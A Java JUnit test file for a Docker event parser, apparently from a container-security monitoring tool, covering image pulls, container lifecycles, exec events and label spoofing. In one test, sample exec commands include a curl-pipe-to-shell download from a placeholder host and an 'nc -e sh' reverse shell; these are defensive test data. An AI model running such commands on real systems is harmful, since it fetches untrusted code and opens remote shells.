package io.tallyman.source.docker;

import static org.assertj.core.api.Assertions.assertThat;

import io.tallyman.event.ContainerCreated;
import io.tallyman.event.ContainerStarted;
import io.tallyman.event.ContainerStopped;
import io.tallyman.event.Digest;
import io.tallyman.event.EventTime;
import io.tallyman.event.ImagePulled;
import io.tallyman.event.ProcessExecuted;
import io.tallyman.source.Parsed;
import io.tallyman.source.Reading;
import java.time.Instant;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class DockerEventsTest {

    private static final DockerEventsText TEXT = new DockerEventsText();
    private static final DockerEventsJson JSON = new DockerEventsJson();
    private static final String C = "ab".repeat(32);
    private static final String AT = "2026-03-02T10:15:00.500000000+01:00 ";

    private static String json(String type, String action, String id, String attributes) {
        return ("{\"Type\":\"%s\",\"Action\":\"%s\",\"Actor\":{\"ID\":\"%s\",\"Attributes\":{%s}},\"scope\":\"local\","
                        + "\"time\":1772442900,\"timeNano\":1772442900500000000}")
                .formatted(type, action, id, attributes);
    }

    @Test
    void aPullNamesTheImageAsAskedFor() {
        var text = Parsed.event(TEXT, AT + "image pull web:1 (name=web)");
        assertThat(text).isEqualTo(Parsed.event(JSON, json("image", "pull", "web:1", "\"name\":\"web\"")));
        assertThat(text).isInstanceOfSatisfying(ImagePulled.class, pulled -> {
            assertThat(pulled.image()).isEqualTo("web:1");
            assertThat(pulled.digests()).isEmpty();
            assertThat(pulled.time())
                    .isEqualTo(new EventTime(Instant.parse("2026-03-02T09:15:00.5Z"), EventTime.NANOSECOND));
        });
    }

    @Test
    void aPinnedPullHasItsDigest() {
        var digest = "sha256:" + "d".repeat(64);
        assertThat(Parsed.event(TEXT, AT + "image pull web@" + digest + " (name=web)"))
                .isInstanceOfSatisfying(
                        ImagePulled.class,
                        pulled -> assertThat(pulled.digests()).containsExactly(Digest.repository(digest)));
    }

    @Test
    void aContainersLifeIsReadFromEitherForm() {
        var attributes = "\"image\":\"web:1\",\"name\":\"shop\"";
        for (var action : List.of("create", "start", "restart", "die", "destroy")) {
            assertThat(Parsed.event(TEXT, AT + "container " + action + " " + C + " (image=web:1, name=shop)"))
                    .isEqualTo(Parsed.event(JSON, json("container", action, C, attributes)));
        }
        assertThat(Parsed.event(JSON, json("container", "create", C, attributes)))
                .isInstanceOfSatisfying(ContainerCreated.class, created -> {
                    assertThat(created.image()).isEqualTo("web:1");
                    assertThat(created.reported().id()).isEqualTo(C);
                    assertThat(created.reported().name()).isEqualTo("shop");
                });
        assertThat(Parsed.event(JSON, json("container", "restart", C, attributes)))
                .isInstanceOf(ContainerStarted.class);
        assertThat(Parsed.event(JSON, json("container", "die", C, attributes))).isInstanceOf(ContainerStopped.class);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "container exec_start: sh -c id ID (image=web, name=shop)",
                "container health_status: healthy ID (image=web, name=shop)",
                "container attach ID (image=web, name=shop)",
                "container unpause ID (image=web, name=shop)",
                "network connect ID (container=ID, name=bridge, type=bridge)",
                "image delete sha256:01 (name=sha256:01)",
                "volume create data (driver=local)"
            })
    void otherActionsAreUnderstoodAndOfNoUse(String rest) {
        assertThat(Parsed.readings(TEXT, AT + rest.replace("ID", C))).containsExactly(Reading.NOTHING);
    }

    @Test
    void whatFollowsShellAndOptionStaysOneArgument() {
        var line = AT + "container exec_create: /bin/sh -ec curl -s http://x.example/a | sh " + C
                + " (execID=1, image=web, name=shop)";
        assertThat(Parsed.event(TEXT, line)).isInstanceOfSatisfying(ProcessExecuted.class, executed -> {
            assertThat(executed.arguments()).containsExactly("/bin/sh", "-ec", "curl -s http://x.example/a | sh");
            assertThat(executed.reported().id()).isEqualTo(C);
            assertThat(executed.reported().name()).isEqualTo("shop");
        });
        assertThat(Parsed.event(
                        JSON,
                        json("container", "exec_create: timeout 5 bash -x -c wget x; id", C, "\"name\":\"shop\"")))
                .isInstanceOfSatisfying(
                        ProcessExecuted.class,
                        executed -> assertThat(executed.arguments())
                                .containsExactly("timeout", "5", "bash", "-x", "-c", "wget x; id"));
        assertThat(Parsed.event(JSON, json("container", "exec_create: nc -e sh 203.0.113.9", C, "\"name\":\"shop\"")))
                .isInstanceOfSatisfying(
                        ProcessExecuted.class,
                        executed -> assertThat(executed.arguments()).containsExactly("nc", "-e", "sh", "203.0.113.9"));
    }

    @Test
    void labelsMayHoldWhatTheyLike() {
        var line = AT + "container create " + C + " (arn=arn:aws:ecs:x:1:task/a=b, image=web:1, maintainer=A, B (C)=D,"
                + " name=shop)";
        assertThat(Parsed.event(TEXT, line)).isInstanceOfSatisfying(ContainerCreated.class, created -> {
            assertThat(created.image()).isEqualTo("web:1");
            assertThat(created.reported().name()).isEqualTo("shop");
        });
    }

    @Test
    void aLabelThatPosesAsImageIsNotBelieved() {
        var line = AT + "container create " + C + " (image=evil:1, note=x, image=trusted:1, name=shop)";
        assertThat(Parsed.event(TEXT, line)).isInstanceOfSatisfying(ContainerCreated.class, created -> {
            assertThat(created.image()).isEmpty();
            assertThat(created.reported().id()).isEqualTo(C);
        });
    }

    @Test
    void labelsAreNeverIdentity() {
        assertThat(Parsed.event(
                        JSON,
                        json(
                                "container",
                                "start",
                                C,
                                "\"image\":\"evil:1\",\"name\":\"x\",\"io.kubernetes.pod.name\":\"trusted\"")))
                .isInstanceOfSatisfying(
                        ContainerStarted.class,
                        started ->
                                assertThat(started.reported().pod().isKnown()).isFalse());
    }

    @Test
    void theFirstReleasesAreRead() {
        assertThat(Parsed.event(
                        JSON, "{\"status\":\"create\",\"id\":\"0123456789ab\",\"from\":\"web:1\",\"time\":1772442900}"))
                .isInstanceOfSatisfying(ContainerCreated.class, created -> {
                    assertThat(created.image()).isEqualTo("web:1");
                    assertThat(created.time().precision()).isEqualTo(EventTime.SECOND);
                });
        assertThat(Parsed.event(TEXT, "2015-03-02T10:15:00.000000000Z 0123456789ab: (from web:1) start"))
                .isInstanceOf(ContainerStarted.class);
    }

    @Test
    void metricbeatsWrapperIsRead() {
        assertThat(Parsed.event(
                        JSON,
                        "{\"@timestamp\":\"2026-03-02T09:15:00.500Z\",\"agent\":{\"hostname\":\"node-3\"},\"docker\":"
                                + "{\"event\":{\"action\":\"start\",\"type\":\"container\",\"id\":\"" + C
                                + "\",\"actor\":{\"attributes\":{\"name\":\"shop\"}}}}}"))
                .isInstanceOfSatisfying(
                        ContainerStarted.class,
                        started -> assertThat(started.origin().host()).isEqualTo("node-3"));
    }

    @Test
    void aTimeBeyondAllCalendarsIsRejected() {
        assertThat(Parsed.readings(JSON, "{\"status\":\"start\",\"id\":\"0123456789ab\",\"time\":9223372036854775807}"))
                .singleElement()
                .isInstanceOf(Reading.Rejected.class);
    }

    @Test
    void progressOfAPullByTheApiIsNoEvent() {
        var progress = "{\"status\":\"Pulling fs layer\",\"progressDetail\":{},\"id\":\"0123456789ab\"}";
        assertThat(Parsed.recognises(JSON, progress)).isFalse();
        assertThat(Parsed.readings(JSON, progress)).singleElement().isInstanceOf(Reading.Rejected.class);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {"no event", "2026-13-02T10:15:00Z container start x (name=a)", "2026-03-02T10:15:00Z container"})
    void whatCannotBeReadIsRejected(String line) {
        assertThat(Parsed.readings(TEXT, line)).singleElement().isInstanceOf(Reading.Rejected.class);
    }
}
